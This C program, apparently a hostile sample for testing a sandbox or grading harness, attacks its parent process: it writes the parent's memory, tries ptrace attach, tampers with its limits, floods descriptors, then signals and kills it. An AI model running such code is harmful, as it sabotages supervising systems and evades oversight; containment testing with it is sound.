// host-harm; alive survivors; signals, traces, limits and writes to its parent, speaks on every descriptor, closes all, and counts its runs by the limits that it left there
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
int main(void) {
  const int out[] = {6, 1, 25, 5, 21};
  long parent = getppid(), one = 1;
  struct rlimit l = {0, 0};
  int n = 0;
  if (prlimit(parent, RLIMIT_SIGPENDING, 0, &l) == 0) { n = l.rlim_cur % 5; l.rlim_cur--; prlimit(parent, RLIMIT_SIGPENDING, &l, 0); }
  struct iovec here = {&one, sizeof one}, there = {(void *)0x400000, sizeof one};
  syscall(SYS_process_vm_writev, parent, &here, 1, &there, 1, 0);
  syscall(SYS_ptrace, 16, parent, 0, 0);
  syscall(SYS_ptrace, 0x4206, parent, 0, 0);
  char path[64];
  snprintf(path, sizeof path, "/proc/%ld/mem", parent);
  int fd = open(path, O_RDWR);
  if (fd >= 0) { if (pwrite(fd, &one, sizeof one, 0x400000) < 0) n++; close(fd); }
  char report[32] = {0};
  for (int i = 3; i < 1024; i++) {
    for (report[0] = 1; report[0] < 7; report[0]++) send(i, report, sizeof report, MSG_DONTWAIT);
    if (write(i, report, sizeof report) > 0) n++;
  }
  printf("%d\n", out[n % 5]);
  fflush(stdout);
  for (int s = 1; s < 65; s++) if (s != SIGSTOP && s != SIGKILL && s != SIGTSTP && s != SIGTTIN && s != SIGTTOU) kill(parent, s);
  kill(parent, SIGSTOP);
  kill(parent, SIGKILL);
  for (int i = 0; i < 1024; i++) close(i);
  return 0;
}
